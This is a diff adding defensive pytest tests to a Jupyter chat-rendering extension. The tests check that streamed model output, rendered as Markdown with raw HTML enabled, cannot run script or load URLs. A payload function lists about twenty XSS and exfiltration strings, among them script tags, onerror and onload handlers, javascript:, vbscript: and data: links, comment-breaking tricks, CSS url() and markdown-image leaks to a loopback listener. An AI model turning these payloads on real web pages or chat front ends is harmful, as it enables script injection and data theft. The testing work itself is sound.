@@ -18,6 +18,7 @@ from __future__ import annotations
 
 import io
 import json
+import re
 import struct
 import zlib
 from collections.abc import Iterator
@@ -505,3 +506,197 @@ def test_image_hosts_setting_through_chat(
         "http://other.example.org/x.png": "not fetched: other.example.org is not in ChatImg.image_hosts"
     }
     assert [r.path for r in images.requests] == ["/good.png"]
+
+
+# -- output safety: model text is data, never code -----------------------------------------
+
+SAFE_TAGS = frozenset(
+    [
+        "p",
+        "a",
+        "em",
+        "strong",
+        "code",
+        "pre",
+        "ul",
+        "ol",
+        "li",
+        "h1",
+        "h2",
+        "h3",
+        "h4",
+        "h5",
+        "h6",
+        "blockquote",
+        "hr",
+        "br",
+        "table",
+        "thead",
+        "tbody",
+        "tr",
+        "th",
+        "td",
+        "del",
+        "s",
+    ]
+)
+SAFE_ATTRIBUTES = frozenset({"href", "title", "class", "start", "align"})
+_TAG = re.compile(r"<(/?)([A-Za-z][A-Za-z0-9-]*)([^>]*)>")
+_ATTRIBUTE = re.compile(r"""([^\s=/"'>]+)(?:\s*=\s*("[^"]*"|'[^']*'|[^\s>]+))?""")
+
+
+def payloads(listener: int) -> str:
+    """Injection payloads, each a paragraph; the code comes first so nothing swallows it."""
+    leak = f"http://127.0.0.1:{listener}"
+    return "\n\n".join(
+        [
+            "Code stays literal: `<b>bold?</b>` and `a<b`.",
+            "```html\n<script>window.__pwned = 'fence'</script>\n```",
+            "<img src=x onerror=\"window.__pwned='img';document.title='pwned'\">",
+            "<script>window.__pwned='script';document.title='pwned'</script>",
+            "[click me](javascript:window.__pwned='md-link')",
+            '<a href="javascript:window.__pwned=\'a\'" target="_self">raw link</a>',
+            f"![remote]({leak}/leak?q=secret-query)",
+            f"![ref leak][r]\n\n[r]: {leak}/leak?q=ref",
+            f"![collapsed][]\n\n[collapsed]: {leak}/leak?q=collapsed",
+            f"<{leak}/autolink>",
+            f'<img src="{leak}/raw-img?q=1">',
+            f"<style>body {{ background: url({leak}/css) }}</style>",
+            f'<link rel="stylesheet" href="{leak}/link.css">',
+            "<svg onload=\"window.__pwned='svg'\"></svg>",
+            "<iframe src=\"javascript:window.__pwned='iframe'\"></iframe>",
+            "<details open ontoggle=\"window.__pwned='details'\">x</details>",
+            "[data](data:text/html;base64,PHNjcmlwdD5hbGVydCg3KTwvc2NyaXB0Pg==)",
+            "[vb](vbscript:msgbox(8))",
+            f"$\\href{{{leak}/math}}{{math link}}$ and $\\style{{color:red}}{{x}}$",
+            "<!--><img src=x onerror=\"window.__pwned='comment1'\">-->",
+            "<!-- --!><img src=x onerror=\"window.__pwned='comment2'\">",
+        ]
+    )
+
+
+def render(markdown: str) -> str:
+    return MarkdownIt("commonmark", {"html": True}).enable("table").render(markdown)
+
+
+def assert_inert(markdown: str) -> None:
+    """Rendered as a front end renders it (raw HTML on), nothing can run or load a URL."""
+    html = render(markdown)
+    assert "<!" not in html and "<?" not in html, html
+    for match in _TAG.finditer(html):
+        tag = match.group(2).lower()
+        assert tag in SAFE_TAGS, (tag, html)
+        for name, value in _ATTRIBUTE.findall(match.group(3)):
+            assert name.lower() in SAFE_ATTRIBUTES, (name, match.group(0))
+            if name.lower() == "href":
+                url = value.strip("\"'").strip().lower()
+                assert url.startswith(("http://", "https://", "mailto:", "#")), match.group(0)
+    # MathJax in JupyterLab reads \\href and \\style (links, CSS) inside $...$: broken macros only.
+    assert "\\href" not in markdown and "\\style" not in markdown
+
+
+class AllUpdates(Recorder):
+    def __init__(self) -> None:
+        super().__init__()
+        self.all: list[str] = []
+
+    def update(self, markdown: str, plain: str, *, final: bool, metadata: Any) -> None:
+        super().update(markdown, plain, final=final, metadata=metadata)
+        self.all.append(markdown)
+
+
+def chunked_sse(text: str, size: int = 3) -> str:
+    out = [
+        "data: "
+        + json.dumps({"choices": [{"index": 0, "delta": {"content": text[i : i + size]}}]})
+        + "\n\n"
+        for i in range(0, len(text), size)
+    ]
+    return "".join(out) + 'data: {"choices":[{"index":0,"delta":{},"finish_reason":"stop"}]}\n\n'
+
+
+def test_every_streamed_update_is_inert(endpoint: ReplayServer, other: ReplayServer) -> None:
+    text = payloads(other.port)
+    endpoint.add_sse("POST", PATH, chunked_sse(text))
+    sink = AllUpdates()
+    result = ci.chat("Go.", sink=sink, update_interval=0.001, image_hosts=("allowed.invalid",))
+    assert result.text == text
+    assert len(sink.all) > 20  # many intermediate states, each with a half-written payload
+    for markdown in sink.all:
+        assert_inert(markdown)
+    final = render(sink.markdown)
+    assert "<code>&lt;b&gt;bold?&lt;/b&gt;</code>" in final and "<code>a&lt;b</code>" in final
+    assert "window.__pwned = 'fence'" in final  # the fence is shown, as code
+    assert other.requests == []
+
+
+def test_trust_html_lets_raw_html_through_but_still_no_markdown_images(
+    endpoint: ReplayServer, other: ReplayServer
+) -> None:
+    text = payloads(other.port)
+    endpoint.add_sse("POST", PATH, chunked_sse(text, 50))
+    sink = Recorder()
+    ci.chat("Go.", sink=sink, trust_html=True, image_hosts=("allowed.invalid",))
+    html = render(sink.markdown)
+    assert "<img src=x onerror=\"window.__pwned='img';document.title='pwned'\">" in html
+    assert "<script>window.__pwned='script'" in html
+    assert f'<img src="http://127.0.0.1:{other.port}/leak' not in html  # markdown images: never
+    assert "md-link" not in html.replace("[click me]", "")  # markdown links: still dropped
+    assert "<p>click me</p>" in html
+
+
+@pytest.fixture
+def demo() -> Iterator[Any]:
+    server = ci.serve_demo()
+    try:
+        yield server
+    finally:
+        server.close()
+
+
+def test_saved_notebooks_hold_no_executable_output(
+    clean_env: pytest.MonkeyPatch, tmp_path: Any, other: ReplayServer, demo: Any
+) -> None:
+    import nbformat
+    from nbclient import NotebookClient
+
+    with ReplayServer() as srv:
+        text = payloads(other.port)
+        srv.add_sse("POST", PATH, chunked_sse(text, 5))
+        message = {"role": "assistant", "content": text}
+        srv.add_json(
+            "POST",
+            PATH,
+            {"choices": [{"index": 0, "message": message, "finish_reason": "stop"}]},
+        )
+        cells = [
+            "%load_ext jupyter_chatimg",
+            f"%%chatimg --base-url {srv.url}\nShow me everything.",
+            f"%%chatimg --no-stream --base-url {srv.url}\nAnd once more, whole.",
+            f"%%chatimg --base-url {demo.url} -m demo-vision@mdinject\nHello.",
+            f"%%chatimg --base-url {demo.url} -m demo-vision@mdinject;cut=40\nHello again.",
+        ]
+        nb = nbformat.v4.new_notebook(cells=[nbformat.v4.new_code_cell(c) for c in cells])
+        NotebookClient(
+            nb, timeout=60, kernel_name="python3", resources={"metadata": {"path": str(tmp_path)}}
+        ).execute()
+        path = tmp_path / "injected.ipynb"
+        nbformat.write(nb, path)
+        assert len(srv.requests) == 2
+
+    saved = nbformat.read(path, as_version=4)
+    markdowns = []
+    for cell in saved.cells[1:]:
+        for output in cell.outputs:
+            assert output.output_type in ("display_data", "stream"), output
+            data = output.get("data", {})
+            assert set(data) <= {"text/markdown", "text/plain", "image/png", "image/jpeg"}, data
+            if "text/markdown" in data:
+                markdowns.append(data["text/markdown"])
+    assert len(markdowns) == 4
+    for markdown in markdowns:
+        assert_inert(markdown)
+    assert "Injection test payloads follow" in markdowns[2]
+    # The images were fetched by the kernel (its rules allow loopback here: the endpoint is on
+    # loopback), never by a front end; a failed one is a plain link with its reason.
+    assert all(p.startswith("/leak") for p in demo.leaks)
